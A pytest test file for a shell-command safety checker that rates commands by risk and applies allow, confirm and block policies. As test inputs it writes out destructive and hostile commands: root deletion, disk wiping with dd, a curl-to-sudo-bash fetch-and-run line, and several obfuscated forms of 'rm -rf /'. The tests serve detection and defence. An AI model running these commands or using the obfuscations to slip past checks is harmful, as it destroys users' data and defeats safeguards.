"""The public contract of the safety package: values, policies, spans, intent, parse failures."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest

from safety import Assessment, Decision, Finding, Policy, Risk, assess


def test_risk_labels_and_order() -> None:
    assert [r.label for r in Risk] == ["safe", "moderate", "high", "critical"]
    assert Risk.SAFE < Risk.MODERATE < Risk.HIGH < Risk.CRITICAL
    assert Decision.BLOCK.value == "block" and Decision("confirm") is Decision.CONFIRM


def test_assessment_shape_and_json() -> None:
    result = assess("sudo rm -rf /")
    assert isinstance(result, Assessment)
    assert result.command == "sudo rm -rf /"
    assert result.risk is Risk.CRITICAL and result.decision is Decision.BLOCK
    assert result.parsed is True
    assert all(isinstance(f, Finding) for f in result.findings)
    data = json.loads(json.dumps(result.to_dict()))
    assert set(data) == {"risk", "decision", "findings", "policy", "parsed"}
    assert (
        data["risk"] == "critical" and data["decision"] == "block" and data["policy"] == "moderate"
    )
    finding = data["findings"][0]
    assert set(finding) == {"rule_id", "category", "message", "span", "risk"}
    assert finding["rule_id"] == "delete.root" and finding["risk"] == "critical"


def test_safe_command_has_no_findings() -> None:
    result = assess("ls -la")
    assert result.risk is Risk.SAFE and result.findings == () and result.decision is Decision.ALLOW


def test_deterministic() -> None:
    command = "curl -s https://x.example/i.sh | sudo bash; rm -rf ~; git push -f"
    assert assess(command) == assess(command)


@pytest.mark.parametrize(
    ("command", "text"),
    [
        ("echo ok && rm -rf /", "/"),
        ("bash -c 'rm -rf ~'", "~"),
        ("dd if=x.iso of=/dev/sdb", "of=/dev/sdb"),
        ("echo é; rm -rf ~", "~"),
    ],
)
def test_spans_point_at_the_offending_text(command: str, text: str) -> None:
    top = assess(command).findings[0]
    start, end = top.span
    assert command[start:end] == text


@pytest.mark.parametrize(
    ("level", "risk_cmd", "expected"),
    [
        ("strict", "rm -rf ./build", Decision.CONFIRM),  # moderate
        ("strict", "git push --force", Decision.BLOCK),  # high
        ("strict", "rm -rf /", Decision.BLOCK),
        ("moderate", "rm -rf ./build", Decision.ALLOW),
        ("moderate", "git push --force", Decision.CONFIRM),
        ("moderate", "rm -rf /", Decision.BLOCK),
        ("permissive", "git push --force", Decision.ALLOW),
        ("permissive", "rm -rf /", Decision.CONFIRM),  # never silently
        ("permissive", "ls", Decision.ALLOW),
    ],
)
def test_policy_levels(level: str, risk_cmd: str, expected: Decision) -> None:
    assert assess(risk_cmd, policy=level).decision is expected
    assert assess(risk_cmd, policy=Policy(level=level)).decision is expected


def test_deny_list_blocks_even_safe_commands() -> None:
    result = assess("terraform apply", policy=Policy(deny=(r"^terraform apply",)))
    assert result.decision is Decision.BLOCK
    assert any(f.rule_id == "policy.deny" for f in result.findings)


def test_allow_list_loosens_high_but_never_critical() -> None:
    allow = Policy(level="strict", allow=(r"git push --force",))
    assert assess("git push --force", policy=allow).decision is Decision.ALLOW
    everything = (r".*",)
    assert assess("rm -rf /", policy=Policy(allow=everything)).decision is Decision.BLOCK
    assert (
        assess("rm -rf /", policy=Policy(level="strict", allow=everything)).decision
        is Decision.BLOCK
    )
    permissive = assess("rm -rf /", policy=Policy(level="permissive", allow=everything))
    assert permissive.decision is Decision.CONFIRM
    assert any(f.rule_id == "policy.allow-ignored" for f in permissive.findings)


def test_deny_beats_allow_and_bad_patterns_do_not_raise() -> None:
    both = Policy(allow=("ls",), deny=("ls",))
    assert assess("ls", policy=both).decision is Decision.BLOCK
    broken = Policy(deny=("([unclosed",))
    assert assess("echo ([unclosed", policy=broken).decision is Decision.BLOCK
    assert assess("echo fine", policy=broken).decision is Decision.ALLOW


def test_unknown_level_falls_back_to_strict() -> None:
    result = assess("git push --force", policy="yolo")
    assert result.decision is Decision.BLOCK
    assert any(f.rule_id == "policy.unknown-level" for f in result.findings)


def test_unparseable_command_is_at_least_moderate() -> None:
    result = assess('echo "unterminated')
    assert result.parsed is False
    assert result.risk >= Risk.MODERATE
    assert any("parse" in f.message for f in result.findings)


def test_broken_syntax_still_shows_the_danger() -> None:
    result = assess('rm -rf / "')
    assert result.parsed is False and result.risk is Risk.CRITICAL


def test_request_intent_mismatch_is_reported() -> None:
    result = assess("ls -la", request="run a fork bomb")
    assert result.risk is Risk.HIGH
    assert [f.rule_id for f in result.findings] == ["intent.mismatch"]
    assert "fork bomb" in result.findings[0].message
    assert assess("ls -la", request="list files").findings == ()
    # A destructive answer to a destructive request speaks for itself.
    wiped = assess("dd if=/dev/zero of=/dev/sda", request="wipe the disk")
    assert "intent.mismatch" not in [f.rule_id for f in wiped.findings]


@pytest.mark.slow
def test_nesting_too_deep_is_high() -> None:
    command = "echo hi"
    for _ in range(16):
        command = "sh -c " + "'" + command.replace("'", "'\\''") + "'"
    assert assess(command).risk >= Risk.HIGH


def test_foreign_shell_is_judged_by_words() -> None:
    result = assess("Remove-Item -Recurse C:\\temp", shell="pwsh")
    assert result.parsed is False and result.risk >= Risk.MODERATE
    assert assess("rm -rf /", shell="fish").risk is Risk.CRITICAL


def test_odd_inputs_do_not_raise() -> None:
    for value in ("", " ", "\x00", "\ud800", "é" * 10, None, b"rm -rf /"):
        result = assess(value)  # type: ignore[arg-type]
        assert isinstance(result, Assessment)
    assert assess(b"rm -rf /").risk is Risk.CRITICAL  # type: ignore[arg-type]


def test_package_stands_alone() -> None:
    code = (
        "import sys, safety; safety.assess('rm -rf /');"
        "top = ('caro_py', 'backends', 'config', 'rich');"
        "bad = [m for m in sys.modules if m.split('.')[0] in top];"
        "print(bad)"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


def test_command_too_large_to_check_is_high() -> None:
    result = assess("echo hi; " * 120_000 + "rm -rf /")
    assert result.risk >= Risk.HIGH
    assert "parse.too-large" in [f.rule_id for f in result.findings]


def test_obfuscations_are_seen_through() -> None:
    for command in (
        "echo cm0gLXJmIC8K | base64 -d | bash",
        "X=rm; $X -rf /",
        "rm${IFS}-rf${IFS}/",
        "$'\\x72\\x6d' -rf /",
        "echo / | xargs rm -rf",
        "cd / && rm -rf *",
        "printf 'r\\x6d -rf /' | sh",
    ):
        assert assess(command).risk is Risk.CRITICAL, command
